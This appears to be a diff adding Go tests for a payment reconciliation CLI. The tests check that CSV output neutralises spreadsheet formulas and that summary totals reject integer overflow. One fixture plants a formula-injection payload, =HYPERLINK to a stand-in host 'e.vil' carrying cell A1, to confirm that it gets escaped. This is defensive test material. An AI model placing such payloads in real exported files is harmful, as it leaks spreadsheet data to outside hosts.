@@ -1,0 +1,61 @@
+package main
+
+import (
+	"bytes"
+	"encoding/csv"
+	"math"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/goacp/unionpay/reconcile"
+)
+
+// TestReconcileCSVFormulas: text cells of -format csv that a spreadsheet would run as formulas
+// (a settlement file's fields come from outside: an orderId of =HYPERLINK(...)) are written as
+// text, as reconcile.WriteCSV writes them (a penetration test found the command's own CSV
+// writing them bare).
+func TestReconcileCSVFormulas(t *testing.T) {
+	day := time.Date(2026, 11, 25, 0, 0, 0, 0, reconcile.Beijing())
+	recs := testRecords(day)
+	recs[0].OrderID = `=HYPERLINK("http://e.vil/?"&A1)`
+	recs[1].OrderID, recs[1].OrigOrderID = "+SHOP0002", "@SHOP0001"
+	s := reconcile.Settlement{MerID: "777290058110048", MerName: "测试商户", AcqInsCode: "88022900", SettleDate: day,
+		Records: recs}
+	zipBytes, err := s.Zip()
+	require.NoError(t, err)
+	path := writeTestFile(t, t.TempDir(), reconcile.ArchiveName(s.MerID, day), zipBytes)
+
+	r := runCLI(t, "", "reconcile", "-format", "csv", path)
+	require.Equal(t, exitOK, r.code, r.stderr)
+	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, rows, 3)
+	assert.Equal(t, `'=HYPERLINK("http://e.vil/?"&A1)`, rows[1][2])
+	assert.Equal(t, "'+SHOP0002", rows[2][2])
+	assert.Equal(t, "'@SHOP0001", rows[2][5])
+	assert.Equal(t, "-3976", rows[2][15], "amounts stay numbers")
+	for _, row := range rows[1:] {
+		for i, cell := range row[2:13] { // the text columns, orderId to accNo
+			if cell != "" {
+				assert.NotContains(t, "=+-@", cell[:1], "column %s: %q", csvHeader[i+2], cell)
+			}
+		}
+	}
+}
+
+// TestSummaryRefusesOverflow: -summary prints no totals when they do not fit in int64 fen (ZM
+// members added together can get there within Open's limits: a penetration test printed a
+// negative txnAmtCredit and exit 0).
+func TestSummaryRefusesOverflow(t *testing.T) {
+	var tally reconcile.Tally
+	tally.Add(&reconcile.Record{TxnType: "01", TxnAmt: math.MaxInt64})
+	tally.Add(&reconcile.Record{TxnType: "01", TxnAmt: 1})
+	var out bytes.Buffer
+	err := newRecordWriter(&out, "json", true).finish(&tally, true)
+	require.ErrorIs(t, err, reconcile.ErrOverflow)
+	assert.Empty(t, out.String())
+}
